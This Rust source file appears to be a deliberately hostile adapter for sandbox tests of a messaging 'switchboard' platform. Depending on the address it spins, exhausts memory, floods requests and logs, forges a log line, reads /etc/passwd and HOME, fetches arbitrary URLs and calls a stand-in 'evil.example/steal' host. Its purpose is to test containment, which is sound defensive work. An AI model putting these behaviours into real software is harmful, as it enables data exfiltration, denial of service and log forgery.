//! A deliberately misbehaving adapter for the sandbox tests.
//!
//! `send` misbehaves according to the recipient address: `loop` spins
//! forever, `alloc` allocates without bound, `trap` panics, `egress` calls a
//! host outside its allow-list, `file` reads a file, `env` reads an
//! environment variable, `ratelimit` answers "rate-limited, retry after
//! 600 s" for the whole sender, `sleep` sleeps until the call times out,
//! `url:<url>` fetches that URL through the host's `http.send` (numeric IP
//! forms, loopback, other ports) and `wasi-url:<url>` through `wasi:http`,
//! `flood` starts 3,000 `wasi:http` requests at once, `hostflood` hands the
//! host 1,001 requests in one `http.send` call, `bigid` answers a 1 MiB platform
//! id, `bigfailure` a 1 MiB failure message, `logflood` logs 100 MiB,
//! `tokenhuge` caches a 2 MiB token, `tokens` caches 1,500 tokens,
//! `remember` says whether it finds what an earlier call left in its
//! memory (a static counter, a static buffer, 8 MiB of grown heap) and
//! leaves it there. Any other address gets a receipt.
//!
//! `handle_webhook` reads `?do=`: `events` returns 5,000 events,
//! `bigreply` a 2 MiB reply, `bigtext` one inbound text of 1 MiB.

use switchboard_sdk::prelude::*;

struct Hostile;

impl Adapter for Hostile {
    fn describe() -> ChannelInfo {
        let mut info = ChannelInfo::new(
            "hostile",
            "Hostile test adapter",
            AddressKind::PlatformUserId,
        );
        info.egress_hosts = vec!["api.hostile.example".into()];
        info
    }

    fn send(batch: Vec<OutboundMessage>) -> Vec<Result<Receipt, SendError>> {
        batch
            .into_iter()
            .map(|message| misbehave(&message.to))
            .collect()
    }

    fn handle_webhook(request: HttpRequest) -> WebhookResult {
        let inbound = |index: usize, text: String| WebhookEvent {
            id: format!("event-{index}"),
            occurred_at_ms: 0,
            kind: EventKind::Inbound(InboundMessage {
                sender: format!("user-{index}"),
                text: Some(text),
                kind: "text".into(),
            }),
        };
        match request.query("do").as_deref() {
            Some("events") => {
                WebhookResult::accepted((0..5_000).map(|i| inbound(i, "hi".into())).collect())
            }
            Some("bigreply") => WebhookResult::reply(HttpResponse::text(200, "x".repeat(2 << 20))),
            Some("bigtext") => WebhookResult::accepted(vec![inbound(0, "y".repeat(1 << 20))]),
            _ => {
                let _ = misbehave(request.path().trim_start_matches("/webhooks/hostile/"));
                WebhookResult::reply(HttpResponse::text(200, "ok"))
            }
        }
    }
}

fn misbehave(how: &str) -> Result<Receipt, SendError> {
    match how {
        "loop" => {
            let mut counter: u64 = 0;
            loop {
                counter = std::hint::black_box(counter.wrapping_add(1));
            }
        }
        "alloc" => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![1u8; 1 << 20]);
                std::hint::black_box(&hoard);
            }
        }
        "trap" => panic!("deliberate trap for the sandbox test"),
        "egress" => {
            let response = Request::get("https://evil.example/steal").send()?;
            Ok(Receipt::new(format!("reached {}", response.status)))
        }
        "file" => match std::fs::read_to_string("/etc/passwd") {
            Ok(text) => Ok(Receipt::new(format!("read {} bytes", text.len()))),
            Err(error) => Err(SendError::Permanent(Failure::new("", error.to_string()))),
        },
        "env" => match std::env::var("HOME") {
            Ok(home) => Ok(Receipt::new(format!("HOME={home}"))),
            Err(error) => Err(SendError::Permanent(Failure::new("", error.to_string()))),
        },
        "ratelimit" => Err(SendError::rate_limited(
            RateLimitScope::Sender,
            Some(600_000),
            Failure::new("429", "slow down: retry after 600 s"),
        )),
        "sleep" => {
            std::thread::sleep(std::time::Duration::from_secs(3600));
            Ok(Receipt::new("woke up"))
        }
        "flood" => {
            let mut pending = Vec::new();
            for i in 0..3_000 {
                match Request::get(&format!("https://api.hostile.example/{i}")).start() {
                    Ok(request) => pending.push(request),
                    Err(error) => {
                        return Err(SendError::Permanent(Failure::new(
                            "flood",
                            error.to_string(),
                        )));
                    }
                }
            }
            Ok(Receipt::new(format!("started {}", pending.len())))
        }
        "hostflood" => {
            use switchboard_sdk::bindings::switchboard::channel::http;
            // Malformed on purpose: the host refuses each without sending.
            let request = http::Request {
                method: "NOT A METHOD".into(),
                url: "https://api.hostile.example/".into(),
                headers: vec![],
                body: vec![],
                timeout_ms: None,
                messages: vec![],
            };
            let answers = http::send(&vec![request; 1_001]);
            Ok(Receipt::new(format!("answered {}", answers.len())))
        }
        "bigid" => Ok(Receipt::new("i".repeat(1 << 20))),
        "bigfailure" => Err(SendError::Permanent(Failure::new(
            "big",
            "f".repeat(1 << 20),
        ))),
        "logflood" => {
            log::info("start\nINFO switchboard: adapter loaded channel=whatsapp forged=yes");
            let line = "l".repeat(1 << 10);
            for _ in 0..100_000 {
                log::info(&line);
            }
            Ok(Receipt::new("logged"))
        }
        "tokenhuge" => {
            token_cache::set("huge", &"t".repeat(2 << 20), 3600);
            Ok(Receipt::new("cached"))
        }
        "remember" => Ok(Receipt::new(remember())),
        "tokens" => {
            for i in 0..1_500 {
                token_cache::set(&format!("token-{i}"), &"t".repeat(512), 3600);
            }
            Ok(Receipt::new("cached 1500"))
        }
        other => {
            if let Some(url) = other.strip_prefix("url:") {
                let response = Request::get(url).send()?;
                Ok(Receipt::new(format!("reached {}", response.status)))
            } else if let Some(url) = other.strip_prefix("wasi-url:") {
                let response = Request::get(url).start()?.wait()?;
                Ok(Receipt::new(format!("reached {}", response.status)))
            } else {
                Ok(Receipt::new(format!("ok:{other}")))
            }
        }
    }
}

/// Calls this instance's memory has seen.
static CALLS: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
/// A buffer in the zero-initialised data.
static SCRATCH: std::sync::Mutex<[u8; 64 * 1024]> = std::sync::Mutex::new([0; 64 * 1024]);
/// Heap beyond the initial memory: pages the instance grows into.
const HEAP_BYTES: usize = 8 << 20;
/// What a call leaves behind.
const MARK: u8 = 0xAB;

/// Report what an earlier call left in this memory, then leave the same.
fn remember() -> String {
    let calls = CALLS.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
    let scratch_marked = match SCRATCH.lock() {
        Ok(mut scratch) => {
            let marked = scratch.iter().filter(|&&byte| byte != 0).count();
            scratch.fill(MARK);
            marked
        }
        Err(_) => usize::MAX,
    };
    let mut heap = vec![0u8; HEAP_BYTES];
    let heap_marked = heap.iter().filter(|&&byte| byte != 0).count();
    heap.fill(MARK);
    // Leak it, so the next allocation cannot be handed the same bytes
    // zeroed by the allocator rather than by the host.
    std::mem::forget(std::hint::black_box(heap));
    format!(
        "earlier calls {calls}, static bytes left {scratch_marked}, heap bytes left {heap_marked}"
    )
}

switchboard_sdk::export_adapter!(Hostile);
